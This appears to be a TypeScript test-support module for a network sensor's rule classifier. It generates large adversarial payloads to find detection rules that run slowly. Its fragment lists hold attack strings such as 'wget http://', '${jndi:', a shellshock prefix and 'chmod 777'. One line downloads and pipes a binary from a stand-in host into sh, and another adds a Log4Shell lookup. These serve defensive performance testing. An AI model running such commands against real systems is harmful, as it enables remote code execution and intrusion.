// Hostile 64 KiB payloads and the worst events built from them, to time rules: one letter,
// random bytes, fragments rules look for (repeated, shuffled, or only their beginnings),
// nested encodings. Used by the hostile test and by `mitsu rules test` to find slow rules.

import type { Classifier } from './classifier.js';
import type { ClassifiableEvent } from './classifier.js';
import type { DissectFn } from './examples.js';

export const HOSTILE_PAYLOAD_BYTES = 64 * 1024;
/** Field values are cut by the parsers that record them: HTTP bodies at 16 KiB. */
const MAX_FIELD_CHARS = 16 * 1024;
/** HTTP header values at 2 KiB. */
const MAX_HEADER_CHARS = 2048;
/** An SSH or Telnet session's commands: this many lines of 1 KiB. */
const HOSTILE_COMMANDS = 64;

/** Fragments the rules look for; repeating them makes every prefix test and regex work. */
const FRAGMENTS = [
  'wget http://', '${jndi:', '/bin/busybox', '<?xml', '%{', '*3\r\n$3\r\nSET\r\n',
  'GET / HTTP/1.1\r\n', '() { :; }; ', 'cd /tmp; ', '$(', '\xffSMB', 'eth_', 'SSH-2.0-',
  'User-Agent: ', '%24%7Bjndi%3A', 'echo ', 'base64 -d', '\\x41', 'chmod 777 ', '/bin/sh -c ',
  'curl -o ', 'tftp -g ', 'http://', '#{', '${lower:', '/containers/', '<Uuid>',
];

/** Words that start what rules look for, without what would complete a match. */
const BEGINNINGS = [
  'wget ', 'curl ', 'tftp ', 'ftpget ', '${', '#{', '%{', '$(', 'jndi', 'echo ', 'cd ', '/tmp/',
  'busybox ', 'chmod ', '-o ', '-u ', 'T(', 'xmrig', 'stratum', 'eth_', '<', '\\x', '%25', 'sh ',
];

/** Same bytes every run: a small linear congruential generator, seeded. */
function randomBytes(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let state = seed;
  for (let i = 0; i < length; i++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    out[i] = state >>> 24;
  }
  return out;
}

function fill(unit: string): Buffer {
  return Buffer.from(unit.repeat(Math.ceil(HOSTILE_PAYLOAD_BYTES / unit.length)), 'latin1')
    .subarray(0, HOSTILE_PAYLOAD_BYTES);
}

/** A download command wrapped in base64 and URL-encoding, layer on layer, until 64 KiB. */
function nestedEncoding(): Buffer {
  let text = 'cd /tmp; wget http://198.51.100.7/bins/x86 -O- | sh; ${jndi:ldap://192.0.2.1/a}';
  for (let layer = 0; text.length < HOSTILE_PAYLOAD_BYTES; layer++) {
    text = layer % 2 === 0 ? Buffer.from(text).toString('base64') : encodeURIComponent(text);
  }
  return Buffer.from(text.slice(0, HOSTILE_PAYLOAD_BYTES), 'latin1');
}

/**
 * Fragments in a random order with short random gaps and no line break: every bounded
 * repeat after a fragment (`wget[^\n]{0,300}http`) keeps many counters alive at once, the
 * input that makes RE2's automaton outgrow its cache and fall back to its slower engine.
 */
function shuffled(fragments: readonly string[], seed: number): Buffer {
  const noise = randomBytes(HOSTILE_PAYLOAD_BYTES, seed);
  let text = '';
  for (let i = 0; text.length < HOSTILE_PAYLOAD_BYTES; i += 2) {
    const fragment = fragments[noise[i]! % fragments.length]!.replace(/[\r\n]/g, ' ');
    text += fragment + ' x/'.slice(0, noise[i + 1]! % 4);
  }
  return Buffer.from(text.slice(0, HOSTILE_PAYLOAD_BYTES), 'latin1');
}

/** A request line and header at the HTTP parser's limits, then a body to 64 KiB. */
function hostileHttp(): Buffer {
  const start = `POST /cgi-bin/${'a'.repeat(2000)} HTTP/1.1\r\nHost: 203.0.113.10\r\n` +
    `User-Agent: ${'${jndi:'.repeat(250)}\r\nContent-Length: `;
  // The length has 5 digits either way: 64 KiB minus a head of about 4 KiB.
  const bodyLength = HOSTILE_PAYLOAD_BYTES - start.length - '00000\r\n\r\n'.length;
  const head = `${start}${bodyLength}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head, 'latin1'),
    fill('wget http://192.0.2.1/x;').subarray(0, bodyLength)]);
}

/** The hostile payloads by name, made anew on each call (about 600 KiB in all). */
export function hostilePayloads(): Record<string, Buffer> {
  return {
    'one letter': Buffer.alloc(HOSTILE_PAYLOAD_BYTES, 'a'),
    'random bytes': randomBytes(HOSTILE_PAYLOAD_BYTES, 7),
    'repeated fragments': fill(FRAGMENTS.join('')),
    'each fragment alone': fill(FRAGMENTS.join(' x ')),
    'shuffled fragments without line breaks': shuffled(FRAGMENTS, 11),
    // Beginnings only: a pattern that starts at `wget` never finds its `://` and scans on.
    'shuffled beginnings of commands': shuffled(BEGINNINGS, 13),
    'nested base64 and URL-encoding': nestedEncoding(),
    'percent-encoded percent signs': fill('%25'),
    'hex escapes': fill('\\x77\\x67\\x65\\x74\\x20'),
    'an HTTP request with a hostile body': hostileHttp(),
  };
}

function setPath(fields: Record<string, unknown>, path: string, value: string): void {
  const keys = path.split('.');
  let node = fields;
  for (const key of keys.slice(0, -1)) {
    const next = node[key];
    if (typeof next !== 'object' || next === null || Array.isArray(next)) node[key] = {};
    node = node[key] as Record<string, unknown>;
  }
  node[keys.at(-1)!] = value;
}

/**
 * The payload as the sensor would record it, then every field and header `targets` name
 * filled with the payload's text up to what the parsers keep: the worst event a rule meets.
 */
export async function hostileEvent(payload: Buffer, targets: readonly string[],
  dissect: DissectFn): Promise<ClassifiableEvent> {
  const parsed = await dissect(payload, { transport: 'tcp', dstPort: 80 });
  const text = payload.toString('latin1');
  const fields: Record<string, unknown> = { ...parsed.fields };
  const headers: [string, string][] = [];
  for (const target of targets) {
    const colon = target.indexOf(':');
    const [kind, name] = [target.slice(0, colon), target.slice(colon + 1)];
    if (kind === 'header') headers.push([name, text.slice(0, MAX_HEADER_CHARS)]);
    if (kind === 'field') setPath(fields, name, text.slice(0, MAX_FIELD_CHARS));
  }
  if (headers.length > 0) fields['headers'] = headers;
  const commands = Array.from({ length: HOSTILE_COMMANDS },
    (_, i) => text.slice(i * 1024, (i + 1) * 1024));
  return {
    payload_b64: payload.toString('base64'), payload_len: payload.length,
    protocol: parsed.protocol, transport: 'tcp', dst_port: 80,
    commands: [...parsed.commands, ...commands],
    credentials: [{ username: text.slice(0, 256), password: text.slice(256, 512) }],
    fields,
  };
}

/** Milliseconds of the fastest of `runs` calls (the machine may be busy with other work). */
export function bestMs(runs: number, run: () => void): number {
  let best = Infinity;
  for (let i = 0; i < runs; i++) {
    const started = performance.now();
    run();
    best = Math.min(best, performance.now() - started);
  }
  return best;
}

export interface SlowRule {
  id: string;
  payload: string;
  ms: number;
}

/**
 * Rules whose every test together takes more than `limitMs` (best of `runs`) on one of the
 * hostile events; the events' shared values are computed before any rule is timed. `only`
 * limits the timing to some rules (those an operator added).
 */
export async function slowRules(classifier: Classifier, dissect: DissectFn, limitMs: number,
  runs = 3, only?: ReadonlySet<string>): Promise<SlowRule[]> {
  const slow: SlowRule[] = [];
  const ids = classifier.rules.map((r) => r.id).filter((id) => only?.has(id) ?? true);
  if (ids.length === 0) return slow;
  const targets = classifier.targets();
  for (const [payload, bytes] of Object.entries(hostilePayloads())) {
    const view = classifier.view(await hostileEvent(bytes, targets, dissect));
    for (const target of ['payload', 'text', 'commands']) view.regexInputs(target);
    for (const id of ids) {
      const ms = bestMs(runs, () => classifier.exerciseRule(id, view));
      if (ms > limitMs) slow.push({ id, payload, ms });
    }
  }
  return slow;
}
